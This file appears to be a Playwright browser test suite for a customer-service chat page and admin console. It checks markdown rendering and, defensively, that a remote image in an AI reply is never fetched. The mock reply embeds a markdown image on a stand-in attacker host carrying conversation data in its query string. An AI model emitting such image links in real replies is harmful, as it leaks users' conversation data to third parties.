/**
 * The chat page and the console in Chromium, for what outside use found rough: a remote image in a
 * reply is never requested and the Content-Security-Policy breaks nothing (no console errors);
 * half-finished markdown while a reply streams; raw markdown in the Knowledge list and in
 * transcripts. Screenshots go to test-artifacts/finish-*.png (1280x800 and 390x844): look at them.
 */
import type { Browser } from 'playwright-core';
import { adminAgent, TEST_ADMIN, type AdminAgent } from '../support/admin-session';
import { startMockLlmServer, type MockLlmServer } from '../support/mock-llm-server';
import { startTestApp, type TestApp } from '../support/test-app';
import { assertClientBuilt, describeBrowser, launchBrowser, screenshot } from './support/browser';
import { ask, collectErrors, collectRequests, openConsole as openConsoleAs, openPage, VIEWPORTS } from './support/chat-page';

const DESKTOP = VIEWPORTS.desktop;
const IMAGE_HOST = 'images.attacker.example';
const IMAGE_URL = `https://${IMAGE_HOST}/x.png?d=conversation-data`;
const IMAGE_REPLY = `Refunds take five days. ![refund chart](${IMAGE_URL})\n\n## Next steps\n\n**Keep the receipt** and write to us.`;

const openConsole = (browser: Browser, t: TestApp) => openConsoleAs(browser, t, TEST_ADMIN);

jest.setTimeout(120000);

describeBrowser('chat page and console finish in Chromium', () => {
  let browser: Browser;
  let mock: MockLlmServer;
  let t: TestApp;
  let admin: AdminAgent;

  beforeAll(async () => {
    assertClientBuilt();
    browser = await launchBrowser();
    mock = await startMockLlmServer();
    t = await startTestApp({ openaiApiKey: 'sk-x', openaiBaseUrl: mock.openaiBaseUrl });
    admin = await adminAgent(t);
  }, 60000);

  afterAll(async () => {
    await browser?.close();
    await t?.close();
    await mock?.close();
  });

  beforeEach(() => mock.reset());

  it('a remote image in a reply is never requested: it shows as a link, in the chat page and in the console transcript; no CSP errors', async () => {
    mock.configure({ reply: IMAGE_REPLY });
    const context = await browser.newContext({ viewport: DESKTOP });
    const page = await context.newPage();
    const errors = collectErrors(page);
    const requests = collectRequests(page);
    await page.goto(t.url);
    await page.locator('.connection-pill[data-status="online"]').waitFor({ timeout: 15000 });
    await ask(page, 'How long do refunds take?');
    const reply = page.locator('.message-agent').last();
    await reply.locator('.message-time').waitFor({ timeout: 15000 });
    await page.waitForTimeout(300);
    await screenshot(page, 'finish-image-reply-1280', { fullPage: false });
    expect(requests.filter((u) => u.includes(IMAGE_HOST))).toEqual([]);
    expect(await reply.locator('img').count()).toBe(0);
    const link = reply.getByRole('link', { name: 'refund chart' });
    expect(await link.getAttribute('href')).toBe(IMAGE_URL);
    // The reply's markdown is rendered: a heading and bold, not "##" and "**".
    await reply.getByRole('heading', { name: 'Next steps' }).waitFor();
    expect(await reply.textContent()).not.toMatch(/##|\*\*/);
    expect(errors).toEqual([]);
    await context.close();

    const consolePage = await openConsole(browser, t);
    const consoleErrors = collectErrors(consolePage);
    const consoleRequests = collectRequests(consolePage);
    for (const tab of ['Knowledge Base', 'Configuration', 'Analytics', 'Budgets', 'Conversations']) {
      await consolePage.getByRole('tab', { name: tab }).click();
      await consolePage.waitForTimeout(400);
    }
    await consolePage.getByRole('list', { name: 'Conversations' }).getByRole('button', { name: /How long do refunds take\?/ }).click();
    const transcript = consolePage.getByRole('article');
    await transcript.getByRole('heading', { name: 'Next steps' }).waitFor({ timeout: 10000 });
    await screenshot(consolePage, 'finish-transcript-1280', { fullPage: false });
    expect(await transcript.getByRole('link', { name: 'refund chart' }).getAttribute('href')).toBe(IMAGE_URL);
    expect(await transcript.locator('strong', { hasText: 'Keep the receipt' }).count()).toBe(1);
    expect(await transcript.textContent()).not.toMatch(/##|\*\*/);
    expect(consoleRequests.filter((u) => u.includes(IMAGE_HOST))).toEqual([]);
    expect(consoleErrors).toEqual([]);
    await consolePage.context().close();
  });

  it('while a reply streams, half-finished bold shows as bold, never as "**"', async () => {
    mock.configure({ reply: 'Here is the rule: **Returns are accepted within thirty days of delivery for every order.**', hangAfterTokens: 6 });
    const page = await openPage(browser, t.url, 'phone');
    await ask(page, 'Can I return an order?');
    const reply = page.locator('.message-agent[data-streaming="true"]').last();
    await reply.locator('strong', { hasText: 'Returns' }).waitFor({ timeout: 15000 });
    await screenshot(page, 'finish-streaming-bold-390', { fullPage: false });
    expect(await reply.locator('.message-content').textContent()).not.toContain('**');
    await page.getByRole('button', { name: 'Stop' }).click();
    await page.context().close();
  });

  it('the Knowledge list previews an item as plain text, without its markdown', async () => {
    await admin
      .post('/api/knowledge')
      .send({ title: 'Markdown preview item', content: '## Delivery times\n\n**Standard** delivery takes _three_ days; see [the table](https://example.com/t).', category: 'Shipping', vertical: 'customer-service', tags: [], attachments: [] })
      .expect(201);
    const page = await openConsole(browser, t);
    const row = page.getByRole('list', { name: 'Knowledge Items' }).getByRole('button', { name: /Markdown preview item/ });
    await row.waitFor({ timeout: 10000 });
    await screenshot(page, 'finish-knowledge-preview-1280', { fullPage: false });
    const preview = (await row.locator('.kb-row-preview').textContent()) ?? '';
    expect(preview).toContain('Delivery times Standard delivery takes three days; see the table.');
    expect(preview).not.toMatch(/##|\*\*|_three_|\]\(/);
    await page.context().close();
  });
});
